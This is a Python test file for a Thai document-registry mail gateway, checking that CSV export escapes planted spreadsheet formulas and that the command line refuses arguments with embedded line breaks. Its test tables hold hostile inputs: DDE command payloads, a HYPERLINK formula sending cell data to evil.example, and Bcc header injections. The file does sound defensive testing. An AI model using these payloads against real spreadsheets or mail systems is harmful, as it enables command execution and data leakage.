"""Hostile input gets a defined outcome (issue 18): each attack is one row of a table.

- A spreadsheet formula planted in a field a sender controls (the subject, the letter number)
  is shown as text in the CSV an auditor opens, never evaluated; the JSON keeps the raw value.
- A line break in a command-line argument (a header injected into a mail the gateway sends, a
  forged register line) is refused with a one-line error and exit code 2; nothing changes.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
from pathlib import Path

import pytest

from gateway.reports.export import ExportRow, to_csv, to_json
from tests.integration.test_cli import CONFIG, cli

ROW = ExportRow("receive", 2569, 1, "registered", dt.datetime(2026, 11, 21, 3, 0, tzinfo=dt.UTC),
                "ศธ 04010/1", dt.date(2026, 11, 18), "สพฐ.", "ผู้อำนวยการ", "ขอเชิญประชุม",
                "", "", "ปกติ", "ปกติ", "smtp", 1)

# (field, what the sender wrote, what the CSV cell must hold)
FORMULAS = [
    ("subject", "=HYPERLINK(\"http://evil.example/\"&A1,\"คลิก\")", "'=HYPERLINK(\"http://evil.example/\"&A1,\"คลิก\")"),
    ("subject", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("subject", "-2+3", "'-2+3"),
    ("subject", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("subject", "\t=1+1", "'\t=1+1"),
    ("subject", "\r=1+1", "'\r=1+1"),
    ("letter_no", "=1+1", "'=1+1"),
    ("sender", "@สพฐ.", "'@สพฐ."),
    ("subject", "ขอเชิญประชุม = 1 วัน", "ขอเชิญประชุม = 1 วัน"),  # not at the start: untouched
    ("subject", "ขอเชิญประชุม", "ขอเชิญประชุม"),
]
COLUMN = {"letter_no": 2, "sender": 4, "subject": 6}


@pytest.mark.parametrize(("field", "written", "cell"), FORMULAS)
def test_a_planted_formula_is_text_in_the_csv(field: str, written: str, cell: str) -> None:
    row = dataclasses.replace(ROW, **{field: written})
    table = list(csv.reader(io.StringIO(to_csv([row]).decode("utf-8-sig"), newline="")))
    assert table[1][COLUMN[field]] == cell
    assert json.loads(to_json([row]))[0][field] == written  # the data itself is kept as written


@pytest.fixture
def site(tmp_path: Path) -> Path:
    (tmp_path / "config.toml").write_text(CONFIG, encoding="utf-8")
    assert cli(tmp_path, "db", "upgrade").returncode == 0
    return tmp_path


# (command line, the option that carries the break)
LINE_BREAKS = [
    (["send", "{pdf}", "--to", "saraban@one.go.th", "--subject", "ขอเชิญประชุม\r\nBcc: all@evil.example"],
     "--subject"),
    (["send", "{pdf}", "--to", "saraban@one.go.th\nBcc: all@evil.example", "--subject", "ทดสอบ"], "--to"),
    (["reserve", "--book", "send", "--count", "1", "--note", "รอลงนาม\nปลอม"], "--note"),
    (["registers", "cancel", "--book", "send", "--year", "2569", "--number", "1", "--reason",
      "ซ้ำ\r\n2569,2,ปลอม"], "--reason"),
]


@pytest.mark.parametrize(("argv", "option"), LINE_BREAKS, ids=[o for _, o in LINE_BREAKS])
def test_a_line_break_in_an_argument_is_refused_with_exit_2(site: Path, argv: list[str],
                                                            option: str) -> None:
    (site / "letter.pdf").write_bytes(b"%PDF-1.7\n")
    before = cli(site, "registers", "list").stdout
    r = cli(site, *[a.replace("{pdf}", str(site / "letter.pdf")) for a in argv])
    assert r.returncode == 2
    assert option in r.stderr and len(r.stderr.strip().splitlines()) == 1
    assert "Traceback" not in r.stderr
    assert cli(site, "registers", "list").stdout == before  # nothing numbered, reserved, cancelled
    outbox = site / "data" / "outbox"
    assert not outbox.exists() or not list(outbox.glob("*.eml"))  # and nothing mailed
